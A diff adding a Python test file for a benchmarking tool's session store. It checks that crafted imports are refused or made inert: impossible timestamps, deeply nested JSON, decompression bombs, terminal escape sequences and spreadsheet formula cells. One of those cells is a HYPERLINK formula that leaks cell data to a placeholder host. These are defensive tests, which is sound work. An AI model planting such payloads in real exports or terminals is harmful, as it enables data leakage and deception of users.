@@ -1,0 +1,289 @@
+"""Session files and stores someone crafted: times that are no date, summaries that are no object, decompression
+bombs, names that drive the terminal or a spreadsheet, a --db that is no file, a running session deleted. Bad input
+is one line, exit 2, nothing written; one bad value in a store never takes the rest of it down."""
+
+import json
+import os
+import sqlite3
+import tracemalloc
+import zlib
+from pathlib import Path
+
+import pytest
+
+from tunebench.cli import main
+from tunebench.core.errors import StoreError
+from tunebench.store.repo import Store
+from tunebench.store.synthetic import record
+
+os.environ.setdefault("QT_QPA_PLATFORM", "offscreen")  # the replay bar below, if it is the first widget made
+
+
+def _run(capsys, *argv):
+    """The CLI in this process (a subprocess costs half a second): exit status, stdout, stderr."""
+    rc = main(list(argv))
+    out = capsys.readouterr()
+    return rc, out.out, out.err
+
+
+def _one_line_error(rc, err, needle):
+    lines = [ln for ln in err.splitlines() if ln.strip()]
+    assert rc == 2 and len(lines) == 1 and lines[0].startswith("tunebench: error:") and needle in lines[0], err
+    assert "Traceback" not in err
+
+
+@pytest.fixture(scope="module")
+def exported(tmp_path_factory):
+    """One recorded session (2 steps, events, 20 series) as an exported file."""
+    root = tmp_path_factory.mktemp("exported")
+    store = Store(root / "src.sqlite")
+    out = store.export_session(record(store, 20, 20), root / "one.tbsession")
+    store.close()
+    return out
+
+
+def _crafted(exported, tmp_path, *sql):
+    path = tmp_path / "crafted.tbsession"
+    path.write_bytes(exported.read_bytes())
+    with sqlite3.connect(path) as c:
+        for statement in sql:
+            c.execute(statement)
+    c.close()
+    return path
+
+
+# ---- 9: times and numbers ------------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("sql", [
+    "UPDATE sessions SET started_at = 9e999",  # inf
+    "UPDATE sessions SET started_at = -1e12",
+    "UPDATE sessions SET ended_at = -9e999",
+    "UPDATE sessions SET started_at = 'yesterday'",
+    "UPDATE steps SET measure_from = 9e999",
+    "UPDATE events SET t = -5",
+    "UPDATE sample_chunks SET t_first = 9e999",
+    "UPDATE steps SET summary = 'NaN'",  # a step summary that is no object: the md export's traceback
+    "UPDATE sessions SET summary = '{\"steps\": NaN}'",
+    "UPDATE sessions SET summary = replace(summary, '\"cv\": 0.03', '\"cv\": Infinity')",
+    "UPDATE sessions SET config = printf('%.*c', 100000, '[')",  # nested deeper than Python recurses
+])
+def test_import_refuses_numbers_and_times_that_are_no_such_thing(exported, tmp_path, capsys, sql):
+    src = _crafted(exported, tmp_path, sql)
+    db = tmp_path / "b.sqlite"
+    Store(db).close()
+    before = db.read_bytes()
+    rc, _out, err = _run(capsys, "--db", str(db), "sessions", "import", str(src))
+    _one_line_error(rc, err, f"cannot import {src}")
+    assert Store(db).list_sessions() == [] and db.read_bytes() == before
+
+
+def test_one_bad_value_never_takes_the_store_down(tmp_path, capsys):
+    db = tmp_path / "s.sqlite"
+    store = Store(db)
+    ids = [record(store, 10, 12, seed=i) for i in range(6)]
+    store.close()
+    with sqlite3.connect(db) as c:  # written into the store itself, as an older Tunebench's import let them in
+        c.execute("UPDATE sessions SET started_at = 9e999, ended_at = 1e308 WHERE id = ?", (ids[0],))
+        c.execute("UPDATE sessions SET started_at = -1e12 WHERE id = ?", (ids[1],))
+        c.execute("UPDATE steps SET summary = 'NaN' WHERE session_id = ?", (ids[2],))
+        c.execute("UPDATE sessions SET summary = '{\"steps\": NaN}' WHERE id = ?", (ids[3],))
+        c.execute("UPDATE sessions SET summary = '[1, 2]', config = '{not json' WHERE id = ?", (ids[4],))
+        c.execute("UPDATE sessions SET summary = replace(summary, '\"tps\": 1', '\"tps\": \"fast\", \"x\": 1')"
+                  " WHERE id = ?", (ids[5],))
+    c.close()
+    rc, out, err = _run(capsys, "--db", str(db), "sessions", "list")
+    assert rc == 0, err
+    rows = out.splitlines()[1:]
+    assert [int(r.split()[0]) for r in rows] == ids and rows[0].split()[1] == "?"
+    for sid in ids:
+        rc, out, err = _run(capsys, "--db", str(db), "sessions", "export", str(sid), "--format", "md")
+        assert rc == 0 and out.startswith(f"# Session {sid}"), err
+
+
+def test_the_window_opens_and_replays_a_session_of_impossible_times(tmp_path, qtbot):
+    from tunebench.ui.replay import ReplayBar, load_session
+    from tunebench.ui.sessions_panel import _cell
+    from tunebench.ui.timeline import Timeline
+
+    assert _cell("started_at", float("inf")) == "?" and _cell("duration", float("inf")) == "?"
+    store = Store(tmp_path / "s.sqlite")
+    sid = record(store, 10, 12)
+    with sqlite3.connect(tmp_path / "s.sqlite") as c:
+        c.execute("UPDATE sessions SET started_at = -1e12")
+    c.close()
+    bar = ReplayBar()
+    qtbot.addWidget(bar)
+    timeline = Timeline()
+    load_session(store, sid, timeline)
+    bar.attach(timeline)  # OverflowError: the slider's range from 1e12 s
+    assert bar.slider.maximum() > 0
+
+
+# ---- 10: decompression bombs ---------------------------------------------------------------------------------
+
+@pytest.mark.parametrize("declared", ["honest", "small"])
+def test_import_refuses_a_decompression_bomb(exported, tmp_path, declared):
+    zeros = 64 * 2**20
+    blob = zlib.compress(bytes(zeros), 9)  # 64 KB in the file
+    n = zeros // 8 if declared == "honest" else 2  # what the row says it holds
+    src = _crafted(exported, tmp_path, "DELETE FROM sample_chunks WHERE id > (SELECT min(id) FROM sample_chunks)")
+    with sqlite3.connect(src) as c:
+        c.execute("UPDATE sample_chunks SET n = ?, ts = ?, vs = ?", (n, blob, zlib.compress(bytes(zeros // 2), 9)))
+    c.close()
+    b = Store(tmp_path / "b.sqlite")
+    tracemalloc.start()
+    try:
+        with pytest.raises(StoreError, match="sample chunk"):
+            b.import_sessions(src)
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert peak < 16 * 2**20, f"{peak / 2**20:.0f} MB to refuse it"
+    assert b.list_sessions() == []
+
+
+def test_a_bomb_in_the_store_itself_is_one_line(exported, tmp_path, capsys):
+    db = tmp_path / "s.sqlite"
+    Store(db).import_sessions(exported)
+    with sqlite3.connect(db) as c:
+        c.execute("UPDATE sample_chunks SET vs = ? WHERE id = (SELECT min(id) FROM sample_chunks)",
+                  (zlib.compress(bytes(64 * 2**20), 9),))
+    c.close()
+    rc, _out, err = _run(capsys, "--db", str(db), "sessions", "show", "1")
+    _one_line_error(rc, err, "sample chunk")
+
+
+# ---- 13: names that drive a terminal or a spreadsheet --------------------------------------------------------
+
+OSC = "\x1b]0;owned\x07\x1b[2J\x9b31m\u202e"
+
+
+def test_names_with_control_characters_are_printed_inert(tmp_path, capsys):
+    db = tmp_path / "s.sqlite"
+    store = Store(db)
+    sid = record(store, 10, 12)
+    store.update_session(sid, name=f"name{OSC}", notes=f"note{OSC}")
+    store.close()
+    with sqlite3.connect(db) as c:
+        c.execute("UPDATE sessions SET target = ?, workload = ?, flavor = ?, version = ?",
+                  (f"t{OSC}", f"w{OSC}", f"f{OSC}", f"v{OSC}"))
+        c.execute("UPDATE series SET name = ? WHERE name = 'client.main.tps'", (f"s{OSC}",))
+        c.execute("UPDATE sessions SET summary = replace(summary, '\"group\": \"main\"', ?)",
+                  (json.dumps({"group": f"g{OSC}"})[1:-1],))
+    c.close()
+    for argv in (["list"], ["show", str(sid)], ["export", str(sid), "--format", "md"],
+                 ["export", str(sid), "--format", "csv"]):
+        rc, out, err = _run(capsys, "--db", str(db), "sessions", *argv)
+        assert rc == 0, err
+        assert not any(ch in out for ch in "\x1b\x07\x9b\u202e"), (argv, out)
+        assert "\\x1b" in out, argv
+    rc, _out, err = _run(capsys, "--db", str(db), "sessions", "import", str(tmp_path / f"x{OSC}.tbsession"))
+    _one_line_error(rc, err, "no such file")  # an error quoting a name quotes it inert too
+    assert "\x1b" not in err and "\\x1b" in err
+
+
+def test_csv_cells_a_spreadsheet_reads_as_formulas_are_neutralised(tmp_path, capsys):
+    db = tmp_path / "s.sqlite"
+    store = Store(db)
+    sid = record(store, 10, 12)
+    store.close()
+    evil = ['=HYPERLINK("http://x/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)"]
+    with sqlite3.connect(db) as c:
+        for name, old in zip(evil, ["client.main.tps", "client.main.qps", "server.questions", "host.local.cpu.user"],
+                             strict=True):
+            c.execute("UPDATE series SET name = ? WHERE name = ?", (name, old))
+    c.close()
+    rc, out, err = _run(capsys, "--db", str(db), "sessions", "export", str(sid), "--format", "csv")
+    assert rc == 0, err
+    import csv
+    import io
+
+    header, *rows = list(csv.reader(io.StringIO(out)))
+    assert sorted(h for h in header if h.startswith("'")) == sorted(f"'{e}" for e in evil)
+    assert not any(cell[:1] in "=+@" for row in rows for cell in row)  # numbers stay numbers (a '-' is a minus)
+
+
+# ---- 14: a --db that is no regular file ----------------------------------------------------------------------
+
+def test_a_store_path_that_is_no_regular_file_is_refused(tmp_path, capsys):
+    link = tmp_path / "store.sqlite"
+    link.symlink_to("/dev/null")
+    journal = Path("/dev/null-journal")
+    had_journal = journal.exists()
+    for db in ("/dev/null", str(link)):
+        with pytest.raises(StoreError, match="not a regular file"):
+            Store(db)
+        rc, _out, err = _run(capsys, "--db", db, "sessions", "list")
+        _one_line_error(rc, err, "not a regular file")
+    assert sorted(p.name for p in tmp_path.iterdir()) == ["store.sqlite"]
+    assert journal.exists() == had_journal
+
+
+# ---- 8c: deleting a running session; IDs never reused --------------------------------------------------------
+
+def test_a_session_whose_run_is_alive_cannot_be_deleted(tmp_path, capsys):
+    db = tmp_path / "s.sqlite"
+    store = Store(db)
+    writer = store.new_session(target="sandbox", engine="builtin", workload="w")  # 'running', owned by this process
+    rc, _out, err = _run(capsys, "--db", str(db), "sessions", "delete", str(writer.id))
+    _one_line_error(rc, err, f"session {writer.id} is running")
+    assert [s["id"] for s in store.list_sessions()] == [writer.id]
+    writer.add_samples(1_790_000_000.0, {"server.questions": 1.0})
+    writer.finish("completed")  # the run ends as it would have: no FOREIGN KEY failure
+    rc, out, err = _run(capsys, "--db", str(db), "sessions", "delete", str(writer.id))
+    assert rc == 0 and f"deleted session {writer.id}" in out, err
+
+
+def test_a_session_deleted_under_its_run_is_not_called_a_damaged_file(tmp_path):
+    store = Store(tmp_path / "s.sqlite")
+    writer = store.new_session(target="sandbox", engine="builtin", workload="w")
+    with sqlite3.connect(tmp_path / "s.sqlite") as c:  # deleted behind its back (an older Tunebench's delete)
+        c.execute("PRAGMA foreign_keys=ON")
+        c.execute("DELETE FROM sessions")
+    c.close()
+    writer.add_samples(1_790_000_000.0, {"server.questions": 1.0})
+    with pytest.raises(StoreError) as info:
+        writer.flush()
+    assert "not a valid SQLite file" not in str(info.value) and "was deleted" in str(info.value)
+
+
+def test_session_ids_are_never_reused(tmp_path):
+    store = Store(tmp_path / "s.sqlite")
+    a, b = (store.new_session(target="t", engine="builtin", workload="w") for _ in range(2))
+    for w in (a, b):
+        w.finish("completed")
+    store.delete_session(b.id)
+    c = store.new_session(target="t", engine="builtin", workload="w")
+    assert c.id > b.id
+
+
+def test_a_schema_8_store_gains_ids_that_are_never_reused(tmp_path):
+    path = tmp_path / "v8.sqlite"
+    store = Store(path)
+    ids = [record(store, 5, 12, seed=i) for i in range(3)]
+    store.close()
+    with sqlite3.connect(path) as c:  # the sessions table as schema 8 made it: rowids, no AUTOINCREMENT
+        c.execute("PRAGMA foreign_keys=OFF")
+        ddl = c.execute("SELECT sql FROM sqlite_master WHERE name = 'sessions'").fetchone()[0]
+        c.execute(ddl.replace("AUTOINCREMENT", "").replace("sessions", "sessions_v8", 1))
+        c.execute("INSERT INTO sessions_v8 SELECT * FROM sessions")
+        c.execute("DROP TABLE sessions")
+        c.execute("ALTER TABLE sessions_v8 RENAME TO sessions")
+        if c.execute("SELECT 1 FROM sqlite_master WHERE name = 'sqlite_sequence'").fetchone():
+            c.execute("DELETE FROM sqlite_sequence")
+        c.execute("UPDATE meta SET value = '8' WHERE key = 'schema_version'")
+        assert "AUTOINCREMENT" not in c.execute("SELECT sql FROM sqlite_master WHERE name='sessions'").fetchone()[0]
+    c.close()
+    store = Store(path)
+    assert [s["id"] for s in store.list_sessions()] == ids
+    assert len(store.series(ids[2])) == 12 and len(store.get_session(ids[2])["steps"]) == 2
+    store.delete_session(ids[2])
+    assert store.series(ids[2]) == {}  # the steps and samples went with it, as before
+    w = store.new_session(target="t", engine="builtin", workload="w")
+    assert w.id > ids[2]
+    with sqlite3.connect(path) as c:
+        assert c.execute("SELECT value FROM meta WHERE key='schema_version'").fetchone()[0] == "9"
+        assert c.execute("PRAGMA foreign_key_check").fetchall() == []
+        cols = [r[1] for r in c.execute("PRAGMA table_info(targets)")]
+    c.close()
+    assert "get_server_public_key" in cols
